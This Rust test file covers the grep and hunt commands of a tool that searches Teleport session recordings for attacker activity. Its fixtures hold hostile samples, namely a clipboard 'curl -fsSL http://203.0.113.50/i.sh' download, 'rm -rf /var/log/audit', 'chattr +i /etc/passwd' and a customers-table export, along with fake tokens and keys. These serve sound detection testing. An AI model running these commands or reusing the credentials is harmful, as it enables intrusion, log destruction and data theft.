//! `grep` over the recordings' content (issue 13): the real binary, the fake tsh's
//! `play --format text` bytes (coloured prompts, erasure, SGR 8, OSC titles and clipboard),
//! every format, the exit statuses, parallel replays and a replay that never ends.

use std::time::{Duration, Instant};

use crate::common::{self, World, raw_dangerous};

const A1: &str = "3f2a9c1e-5b7d-4e8a-9c0f-1a2b3c4d5e6f";
const M1: &str = "d1e2f3a4-b5c6-4d7e-8f9a-0b1c2d3e4f5a";

fn grep(w: &World, args: &[&str]) -> (i32, String, String) {
    common::ran(w.cmd().arg("grep").args(args))
}

#[test]
fn matches_are_grouped_by_session_with_their_line_numbers() {
    let w = World::new();
    let (code, out, err) = grep(&w, &["sudo", "--format", "table", "-C", "1"]);
    assert_eq!(code, 0, "{err}");
    let group = &out[out.find(A1).expect(&out)..];
    let heading = group.lines().next().unwrap();
    assert!(
        heading.contains("alice@web-01") && heading.contains("2026-06-03 20:12 UTC"),
        "{heading}"
    );
    // Debian's prompt retitles the window at every prompt: that is no evasion.
    assert!(
        !heading.contains("title-or-clipboard"),
        "a prompt's title is no evasion: {heading}"
    );
    // As displayed: the prompt without its colours, the command as echoed.
    assert!(group.contains(":alice@web-01:~$ sudo su -\n"), "{group}");
    // Context lines are `N-`, as grep writes them.
    assert!(
        group.lines().any(|l| l.contains("- 20:12:07 up 12 days")),
        "{group}"
    );
    assert!(err.contains("scanned ") && err.contains("matched"), "{err}");
    // Only canonical ids reached tsh, only as `play --format=text ID`.
    for (prog, argv) in w.calls() {
        if prog == "tsh" {
            assert_eq!(argv[..2], ["play", "--format=text"], "{argv:?}");
            assert!(
                tsh_review::internals::parse::is_canonical_id(&argv[2]),
                "{argv:?}"
            );
        }
    }
}

/// A session tctl gave no start, user or target: placed by its end, and the names it lacks
/// are `-`, as in the listings, not an empty `@`; the rows' `start` is empty, not the end.
#[test]
fn a_session_without_a_start_is_placed_by_its_end_and_says_so() {
    let w = World::new();
    let (_, out, _) = grep(&w, &["whoami", "--format", "table"]);
    let heading = out.lines().find(|l| l.starts_with("e4d3c2b1")).expect(&out);
    assert!(
        heading.contains("  -@-  ssh  ended 2026-06-02 22:14 UTC"),
        "{heading}"
    );
    let (_, out, _) = grep(&w, &["whoami", "--format", "tsv"]);
    let row: Vec<&str> = out
        .lines()
        .find(|l| l.starts_with("e4d3c2b1"))
        .expect(&out)
        .split('\t')
        .collect();
    assert_eq!(row[4], "", "{row:?}");
}

#[test]
fn erased_concealed_and_clipboard_text_is_found_and_says_so() {
    let w = World::new();
    let (code, out, _) = grep(&w, &["rm -rf /var/log/audit", "--format", "table"]);
    assert_eq!(code, 0);
    assert!(
        out.contains(":[erased] root@web-03:~# rm -rf /var/log/audit"),
        "{out}"
    );
    assert!(out.contains("erased-input"), "{out}");
    let (_, out, _) = grep(&w, &["ghp_[A-Za-z0-9]+", "--format", "table"]);
    assert!(
        out.contains("[concealed] ghp_16C7e42F292c6912E7710c838347Ae178B4a"),
        "{out}"
    );
    assert!(out.contains("concealed-text"), "{out}");
    // The clipboard write (OSC 52), decoded.
    let (_, out, _) = grep(&w, &["-F", "203.0.113.50/i.sh", "--format", "tsv"]);
    let row: Vec<&str> = out.lines().next().expect(&out).split('\t').collect();
    assert_eq!((row[0], row[6]), (M1, "clipboard"), "{out}");
    // A paste waiting to happen is told apart from a window title.
    let (_, out, _) = grep(&w, &["-F", "203.0.113.50/i.sh", "--format", "table"]);
    assert!(
        out.contains(":[clipboard] curl -fsSL http://203.0.113.50/i.sh"),
        "{out}"
    );
    let (_, out, _) = grep(&w, &["-F", "vim README.md", "--format", "table"]);
    assert!(out.contains(":[title] vim README.md"), "{out}");
}

#[test]
fn one_row_per_match_in_every_data_format_and_nothing_raw() {
    let w = World::new();
    for format in ["tsv", "csv", "json", "markdown", "table"] {
        let (code, out, err) = grep(&w, &["-i", "SUDO|audit", "--format", format]);
        assert_eq!(code, 0, "{format}: {err}");
        assert_eq!(
            raw_dangerous(&out.replace(['\t', '\r'], " ")),
            Vec::<char>::new(),
            "{format}"
        );
        assert_eq!(raw_dangerous(&err), Vec::<char>::new(), "{format}");
    }
    let (_, out, _) = grep(&w, &["sudo", "--format", "json"]);
    let rows: Vec<serde_json::Value> = serde_json::from_str(&out).unwrap();
    let first = &rows[0];
    for key in [
        "id", "kind", "user", "target", "start", "line", "within", "text", "flags",
    ] {
        assert!(first.get(key).is_some(), "{key}: {first}");
    }
    let (_, out, _) = grep(&w, &["sudo", "--format", "csv"]);
    assert!(out.starts_with("id,kind,user,target,start,line,within,text,flags\r\n"));
    // M1's target carries a bidi override: escaped in the rows.
    let (_, out, _) = grep(&w, &["authorized_keys", "--format", "tsv"]);
    assert!(out.contains("web-03\\u{202e}txt.exe"), "{out}");
}

#[test]
fn exit_status_is_greps() {
    let w = World::new();
    assert_eq!(grep(&w, &["sudo"]).0, 0);
    let (code, out, err) = grep(&w, &["no-such-text-anywhere"]);
    assert_eq!((code, out.as_str()), (1, ""), "{err}");
    assert!(err.contains("0 matched"), "{err}");
    let (code, _, err) = grep(&w, &["(unclosed"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("regular expressions"), "{err}");
    let (code, _, err) = grep(&w, &[]);
    assert_eq!(code, 2);
    assert!(err.contains("needs a PATTERN"), "{err}");
    // The listing failing is trouble, not "no match".
    let out = w
        .cmd()
        .args(["grep", "sudo"])
        .env("FAKE_TCTL_SCENARIO", "garbage")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    // As documented: a denied listing and a lost login keep every command's statuses.
    for (scenario, code) in [("access-denied", 4), ("expired-creds", 3)] {
        let out = w
            .cmd()
            .args(["grep", "sudo"])
            .env("FAKE_TCTL_SCENARIO", scenario)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(code), "{scenario}");
    }
}

#[test]
fn what_was_not_scanned_is_said_by_reason() {
    let w = World::new();
    let (_, _, err) = grep(&w, &["sudo", "--since", "14d"]);
    assert!(
        err.contains("desktop or app session(s): they have no text replay"),
        "{err}"
    );
    assert!(err.contains("--kind desktop,app` shows them"), "{err}");
    assert!(err.contains("non-interactive (exec) session(s)"), "{err}");
    let (_, _, err) = grep(&w, &["sudo", "--since", "14d", "--non-interactive"]);
    assert!(!err.contains("non-interactive (exec)"), "{err}");
    // The exec session has no recording: not found, not trouble.
    assert!(err.contains("had no recording"), "{err}");
    // Any other failure quotes what tsh said, escaped.
    let out = w
        .cmd()
        .args(["grep", "sudo"])
        .env("FAKE_TSH_SCENARIO", "hostile-error")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(
        err.contains("could not be replayed") && err.contains("(tsh said: boom \\x1b]0;owned"),
        "{err}"
    );
    assert_eq!(raw_dangerous(&err), Vec::<char>::new(), "{err}");
}

/// The ids grep names (skipped, failed or matched) open with `show` by their prefix, as the
/// ids of any listing do: grep remembers what it listed.
#[test]
fn the_ids_grep_names_open_with_show() {
    let w = World::new();
    let (_, out, err) = grep(&w, &["sudo", "--since", "14d", "--format", "tsv"]);
    let line = err
        .lines()
        .find(|l| l.contains("non-interactive (exec) session(s)"))
        .expect(&err);
    let skipped = &line[line.rfind('(').unwrap() + 1..][..8];
    let matched = &out.lines().next().expect(&out)[..8];
    for prefix in [skipped, matched] {
        let shown = w.cmd().args(["show", prefix]).output().unwrap();
        assert_eq!(
            shown.status.code(),
            Some(0),
            "show {prefix}: {}",
            String::from_utf8_lossy(&shown.stderr)
        );
    }
}

#[test]
fn replays_run_in_parallel() {
    let w = World::new();
    let time = |jobs: &str| {
        let started = Instant::now();
        let out = w
            .cmd()
            .args(["grep", "sudo", "--jobs", jobs])
            .env("FAKE_TSH_SCENARIO", "play-slow")
            .env("FAKE_SLOW_SECS", "1")
            .output()
            .unwrap();
        assert_eq!(
            out.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        started.elapsed()
    };
    let one = time("1");
    let four = time("4");
    // Five replayable sessions in the last day, a second each.
    assert!(one > Duration::from_secs(5), "{one:?}");
    assert!(four < one / 2, "-j 4 took {four:?}, -j 1 {one:?}");
}

#[test]
fn a_replay_that_never_ends_is_stopped_at_the_timeout() {
    let w = World::new();
    let started = Instant::now();
    let out = w
        .cmd()
        .args(["grep", "sudo", "--timeout", "2s", "--user", "alice"])
        .env("FAKE_TSH_SCENARIO", "play-hang")
        .output()
        .unwrap();
    assert!(started.elapsed() < Duration::from_secs(20));
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.contains("did not finish within --timeout"), "{err}");
    let pids = std::fs::read_to_string(w.dir.join("pids")).unwrap();
    for pid in pids.split_whitespace() {
        assert!(
            !common::process_alive(pid.parse().unwrap()),
            "{pid} outlived grep"
        );
    }
}

/// What a replay showed before the deadline is kept and marked, not thrown away with it: a
/// long session cut at --timeout still shows what it matched.
#[test]
fn what_a_replay_showed_before_the_deadline_is_kept_and_marked() {
    let w = World::new();
    let grep = |format: &str| {
        let out = w
            .cmd()
            .args(["grep", "Last login", "--timeout", "2s", "--user", "alice"])
            .args(["--format", format])
            .env("FAKE_TSH_SCENARIO", "play-hang")
            .output()
            .unwrap();
        (
            out.status.code(),
            String::from_utf8(out.stdout).unwrap(),
            String::from_utf8(out.stderr).unwrap(),
        )
    };
    let (code, out, err) = grep("table");
    assert_eq!(code, Some(2), "{err}");
    assert!(
        out.contains("(cut short at --timeout: the lines read before)"),
        "{out}"
    );
    assert!(out.contains("1:Last login"), "{out}");
    assert!(err.contains("in part; 1 matched"), "{err}");
    assert!(err.contains("did not finish within --timeout"), "{err}");
    let (_, out, _) = grep("json");
    let rows: Vec<serde_json::Value> = serde_json::from_str(&out).unwrap();
    assert_eq!(rows.len(), 1, "{out}");
    assert_eq!(rows[0]["id"], A1);
}

#[test]
fn a_flood_streams_through_and_its_match_is_found() {
    let w = World::new();
    let (code, out, err) = common::ran(
        w.cmd()
            .args(["grep", "auth.log", "--user", "alice", "--format", "tsv"])
            .env("FAKE_TSH_SCENARIO", "play-flood")
            .env("FAKE_FLOOD_MB", "8"),
    );
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("$ sudo tail /var/log/auth.log"), "{out}");
}

#[test]
fn nothing_from_a_recording_is_written_to_disk() {
    let w = World::new();
    grep(&w, &["ghp_", "--format", "table"]);
    let mut stack = vec![w.dir.clone()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                let bytes = std::fs::read(&path).unwrap();
                let text = String::from_utf8_lossy(&bytes);
                assert!(
                    !text.contains("ghp_16C7e42F"),
                    "{} holds recording text",
                    path.display()
                );
            }
        }
    }
}

#[test]
fn grep_hunt_uses_the_techniques_patterns() {
    let w = World::new();
    let (code, out, _) = grep(&w, &["--hunt", "ssh-tamper", "--format", "tsv"]);
    assert_eq!(code, 0);
    assert!(out.lines().all(|l| l.starts_with(M1)), "{out}");
    assert!(out.contains("authorized_keys"), "{out}");
    let (_, out, err) = grep(&w, &["--hunt", "exfil", "--format", "tsv"]);
    assert!(out.contains("COPY customers TO STDOUT"), "{out}");
    // The technique chose the kinds: said, since a pattern of one's own is read there only.
    assert!(
        err.contains("--hunt exfil reads db sessions only") && err.contains("--kind"),
        "{err}"
    );
    // -F is for one's own patterns; the technique's stay regular expressions.
    let (code, out, err) = grep(
        &w,
        &[
            "--hunt",
            "ssh-tamper",
            "-F",
            "-e",
            "ghp_[",
            "--format",
            "tsv",
        ],
    );
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("authorized_keys"), "{out}");
}

#[test]
fn the_demo_greps_its_own_recordings() {
    let w = World::new();
    let out = w
        .cmd()
        .args([
            "--demo", "grep", "sudo", "--since", "14d", "--format", "tsv",
        ])
        .env("PATH", "/nonexistent")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("sudo su -"), "{text}");
    // `--demo grep sudo` as the README says it, in the default day, finds something.
    let out = w
        .cmd()
        .args(["--demo", "grep", "sudo", "--format", "tsv"])
        .env("PATH", "/nonexistent")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "the demo's last day has a sudo");
    let out = w
        .cmd()
        .args([
            "--demo",
            "grep",
            "rm -rf /var/log/audit",
            "--since",
            "7d",
            "--format",
            "tsv",
        ])
        .env("PATH", "/nonexistent")
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("\terased\t"), "{text}");
    // The demo's search hits are corroborated by its recordings.
    let out = w
        .cmd()
        .args(["--demo", "hunt", "privesc", "--verify", "--format", "json"])
        .env("PATH", "/nonexistent")
        .output()
        .unwrap();
    let rows: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    let lines: Vec<&str> = rows
        .iter()
        .map(|r| r["evidence"]["line"].as_str().unwrap_or_default())
        .collect();
    assert_eq!(rows.len(), 2);
    assert!(lines.iter().all(|l| l.contains("sudo -l")), "{lines:?}");
}

#[test]
fn without_search_a_technique_is_hunted_in_the_recordings_and_exits_as_grep() {
    let w = World::new();
    let out = w
        .cmd()
        .args(["hunt", "ssh-tamper", "--format", "tsv"])
        .env("FAKE_TCTL_SCENARIO", "search-no-access-graph")
        .output()
        .unwrap();
    let (stdout, err) = (
        String::from_utf8(out.stdout).unwrap(),
        String::from_utf8(out.stderr).unwrap(),
    );
    assert_eq!(out.status.code(), Some(0), "{err}");
    // One line says what happened instead, before the scan's report.
    let first = err.lines().next().unwrap_or_default();
    // The grep it names reads the hunt's own window (hunt's 7 days, not grep's day).
    assert!(
        first.contains("no session search on this cluster")
            && first.contains("grep --hunt ssh-tamper --since 7d`"),
        "{err}"
    );
    assert_eq!(err.matches("no session search").count(), 1, "{err}");
    assert!(
        first.contains("every matching line, whatever --limit says"),
        "{err}"
    );
    assert!(!first.contains("--explain"), "{err}");
    assert!(
        !err.contains("search is unavailable"),
        "not the listing's headline: {err}"
    );
    // grep's rows: the matching lines, not the window's sessions.
    assert!(stdout.lines().all(|l| l.starts_with(M1)), "{stdout}");
    assert!(stdout.contains("authorized_keys"), "{stdout}");
    let calls = w.tctl_calls();
    assert_eq!(calls[0][..2], ["recordings", "search"], "{calls:?}");
    assert!(
        calls[1..].iter().all(|c| c[..2] == ["recordings", "ls"]),
        "{calls:?}"
    );
    assert!(w.calls().iter().any(|(p, a)| p == "tsh" && a[0] == "play"));

    // Nothing matched: 1, as grep says it (kernel: no fake recording loads a module).
    let out = w
        .cmd()
        .args(["hunt", "kernel"])
        .env("FAKE_TCTL_SCENARIO", "search-no-access-graph")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    // --no-fallback still refuses, without reading anything.
    let w = World::new();
    let out = w
        .cmd()
        .args(["hunt", "privesc", "--no-fallback"])
        .env("FAKE_TCTL_SCENARIO", "search-no-access-graph")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(5));
    assert!(w.calls().iter().all(|(p, _)| p != "tsh"), "{:?}", w.calls());
    // What search would have added is said, not dropped.
    let out = w
        .cmd()
        .args(["hunt", "ssh-tamper", "--explain", "--format", "tsv"])
        .env("FAKE_TCTL_SCENARIO", "search-no-access-graph")
        .output()
        .unwrap();
    let said = String::from_utf8(out.stderr).unwrap();
    assert!(
        said.lines()
            .next()
            .unwrap_or_default()
            .contains("--explain reads the AI summaries"),
        "{said}"
    );
}

#[test]
fn verify_reads_each_hit_and_shows_its_first_matching_line() {
    let w = World::new();
    let out = w
        .cmd()
        .args(["hunt", "privesc", "--verify", "--format", "json"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    let rows: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    let alice = rows.iter().find(|r| r["id"] == A1).expect("A1 is a hit");
    let evidence = &alice["evidence"];
    assert!(
        evidence["line"].as_str().unwrap().contains("sudo su -"),
        "{evidence}"
    );
    assert_eq!(evidence["within"], "displayed");
    assert!(evidence["matched_lines"].as_u64().unwrap() >= 1);
    // Mallory's session is read too; its evasions are flagged on the row.
    let mallory = rows.iter().find(|r| r["id"] == M1).expect("M1 is a hit");
    let flags: Vec<&str> = mallory["flags"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f.as_str().unwrap())
        .collect();
    assert!(flags.contains(&"title-or-clipboard"), "{flags:?}");
    // Every replayable hit was replayed, once, by its canonical id.
    let played: Vec<String> = w
        .calls()
        .into_iter()
        .filter(|(p, a)| p == "tsh" && a[0] == "play")
        .map(|(_, a)| a[2].clone())
        .collect();
    let replayable = rows
        .iter()
        .filter(|r| ["ssh", "k8s", "db"].contains(&r["kind"].as_str().unwrap()))
        .count();
    assert_eq!(played.len(), replayable, "{played:?}");
    // Sessions tsh cannot replay as text say so instead of a line.
    if let Some(desktop) = rows.iter().find(|r| r["kind"] == "desktop") {
        assert_eq!(desktop["evidence"]["unavailable"], "no text replay");
    }

    // On a terminal: an evidence column, and the note saying what it is.
    let out = w
        .cmd()
        .args(["hunt", "privesc", "--verify", "--format", "table"])
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("EVIDENCE"), "{text}");
    assert!(text.contains("grep --hunt privesc --since 7d`"), "{text}");
    // A keyword hunt's grep names the keywords, quoted for the shell where they need it.
    let out = w
        .cmd()
        .args(["hunt", "--keyword", "sudo", "--keyword", "su -", "--verify"])
        .args(["--format", "table"])
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.contains("grep -F -i -e sudo -e 'su -' --since 7d`"),
        "{text}"
    );
    // Without --verify nothing is replayed.
    let w = World::new();
    w.cmd().args(["hunt", "privesc"]).assert().success();
    assert!(w.calls().iter().all(|(p, a)| p != "tsh" || a[0] != "play"));
}

#[test]
fn verify_needs_patterns() {
    let w = World::new();
    let out = w
        .cmd()
        .args(["hunt", "--query", "anything odd", "--verify"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8(out.stderr)
            .unwrap()
            .contains("--verify needs")
    );
    assert!(w.calls().is_empty());
}

/// A spreadsheet of `hunt --verify` tells a concealed match from a shown one, and a recording
/// that could not be read from one where nothing matched, as the table does.
#[test]
fn verify_evidence_in_tsv_and_csv_keeps_its_marks_and_reasons() {
    let w = World::new();
    for format in ["tsv", "csv"] {
        let out = w
            .cmd()
            .args(["hunt", "privesc", "--verify", "--format", format])
            .output()
            .unwrap();
        let out = String::from_utf8(out.stdout).unwrap();
        let row = |id: &str| {
            out.lines()
                .find(|l| l.starts_with(id))
                .unwrap_or_else(|| panic!("{id} in {out}"))
                .to_owned()
        };
        assert!(
            row(M1).contains("[concealed] sudo chattr +i /etc/passwd"),
            "{out}"
        );
        assert!(row("5e6f7a8b").contains("(no text replay)"), "{out}");
        assert!(row("6b7c8d9e").contains("(no matching line)"), "{out}");
    }
}

/// Without a tsh to run, nothing could be replayed: said once, before listing anything.
#[test]
fn a_missing_tsh_stops_grep_before_the_listing() {
    let w = World::new();
    let out = w
        .cmd()
        .args(["--tsh", "/nonexistent/tsh", "grep", "sudo"])
        .output()
        .unwrap();
    let err = String::from_utf8(out.stderr).unwrap();
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("--tsh points to /nonexistent/tsh"), "{err}");
    assert!(!err.contains("could not be replayed"), "{err}");
    assert!(w.tctl_calls().is_empty(), "nothing was listed");
}

/// The `tsh-review grep ...` a hunt names, run as a user would paste it (its words split
/// as a shell would: the tests keep them plain), with `env`: (exit status, stdout, stderr).
fn paste(w: &World, suggested: &str, env: &[(&str, &str)]) -> (i32, String, String) {
    let words: Vec<&str> = suggested.split_whitespace().collect();
    assert_eq!(words[..2], ["tsh-review", "grep"], "{suggested}");
    common::ran(w.cmd().args(&words[1..]).envs(env.iter().copied()))
}

/// The line of a scan's report that says how many sessions it read.
fn scanned(err: &str) -> &str {
    err.lines()
        .find(|l| l.contains("scanned "))
        .unwrap_or_else(|| panic!("no scan report in {err}"))
}

/// Without search, the grep a hunt says it runs is the grep it runs: pasted, it scans the
/// same sessions (the kinds asked for, and the non-interactive ones when asked), not the
/// whole window.
#[test]
fn without_search_the_grep_a_hunt_names_scans_what_the_hunt_scanned() {
    let w = World::new();
    let old = [("FAKE_TCTL_SCENARIO", "search-old-tctl")];
    for hunt in [
        &["hunt", "privesc", "--kind", "k8s"][..],
        &["hunt", "privesc", "--kind", "ssh", "--non-interactive"],
        &["hunt", "--keyword", "COPY", "--kind", "db"],
    ] {
        let out = w
            .cmd()
            .args(hunt)
            .args(["--format", "tsv"])
            .envs(old)
            .output()
            .unwrap();
        let err = String::from_utf8(out.stderr).unwrap();
        let said = err.lines().next().unwrap_or_default();
        let suggested = common::code_spans(said)
            .into_iter()
            .find(|c| c.contains(" grep "))
            .unwrap_or_else(|| panic!("{hunt:?}: no grep named in {err}"));
        let (status, stdout, pasted) = paste(&w, suggested, &old);
        assert_eq!(scanned(&pasted), scanned(&err), "{hunt:?}: {suggested}");
        assert_eq!(Some(status), out.status.code(), "{hunt:?}: {suggested}");
        assert_eq!(
            stdout,
            String::from_utf8(out.stdout).unwrap(),
            "{hunt:?}: {suggested}"
        );
    }
}

/// With search, `--verify`'s note names a grep that reads the kinds the hunt was asked for.
#[test]
fn the_grep_verify_names_keeps_the_hunts_kinds() {
    let w = World::new();
    let out = w
        .cmd()
        .args([
            "hunt", "privesc", "--verify", "--kind", "ssh", "--format", "table",
        ])
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    let suggested = common::code_spans(&text)
        .into_iter()
        .find(|c| c.contains(" grep "))
        .unwrap_or_else(|| panic!("no grep named in {text}"));
    let (status, stdout, err) = paste(&w, &format!("{suggested} --format tsv"), &[]);
    assert_eq!(status, 0, "{suggested}: {err}");
    let kinds: Vec<&str> = stdout
        .lines()
        .map(|l| l.split('\t').nth(1).unwrap())
        .collect();
    assert!(
        !kinds.is_empty() && kinds.iter().all(|k| *k == "ssh"),
        "{suggested}: {stdout}"
    );
    assert!(!err.contains("of 14 session(s)"), "{suggested}: {err}");
}

/// The secrets hunt finds secrets as `env` prints them (the fixture's pod, K1:
/// `STRIPE_SECRET_KEY=sk_live_...`, `DB_SECRET=hunter2`), and nothing in the sessions that
/// only mention a password or a token, here or in the demo.
#[test]
fn the_secrets_hunt_finds_the_secrets_a_pod_printed() {
    const K1: &str = "8c1d2e3f-4a5b-4c6d-8e7f-9a0b1c2d3e4f";
    let w = World::new();
    let (status, out, err) = grep(
        &w,
        &["--hunt", "secrets", "--since", "30d", "--format", "tsv"],
    );
    assert_eq!(status, 0, "{err}");
    let lines: Vec<(&str, &str)> = out
        .lines()
        .map(|l| {
            let cells: Vec<&str> = l.split('\t').collect();
            (cells[0], cells[7])
        })
        .collect();
    assert_eq!(
        lines,
        [
            (K1, "STRIPE_SECRET_KEY=sk_live_51H8xEXAMPLE"),
            (K1, "DB_SECRET=hunter2"),
            (M1, "ghp_16C7e42F292c6912E7710c838347Ae178B4a"),
        ],
        "{out}"
    );

    let out = w
        .cmd()
        .args(["hunt", "secrets", "--verify", "--format", "json"])
        .output()
        .unwrap();
    let rows: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    let k1 = rows.iter().find(|r| r["id"] == K1).expect("K1 is a hit");
    assert_eq!(
        k1["evidence"]["line"], "STRIPE_SECRET_KEY=sk_live_51H8xEXAMPLE",
        "{k1}"
    );
    assert_eq!(k1["evidence"]["matched_lines"], 2, "{k1}");
    // alice's `[sudo] password for alice:` is a prompt, not a secret.
    let a1 = rows.iter().find(|r| r["id"] == A1).expect("A1 is a hit");
    assert_eq!(a1["evidence"]["matched_lines"], 0, "{a1}");

    // In the demo, only the three sessions that print secrets (src/demo/README.md).
    let out = w
        .cmd()
        .args(["--demo", "grep", "--hunt", "secrets", "--since", "400d"])
        .args(["--format", "tsv"])
        .output()
        .unwrap();
    let mut ids: Vec<String> = common::stdout_lines(&out)
        .iter()
        .map(|l| l[..8].to_owned())
        .collect();
    ids.dedup();
    assert_eq!(ids, ["8019206c", "e359af44", "e697e0e7"]);
}
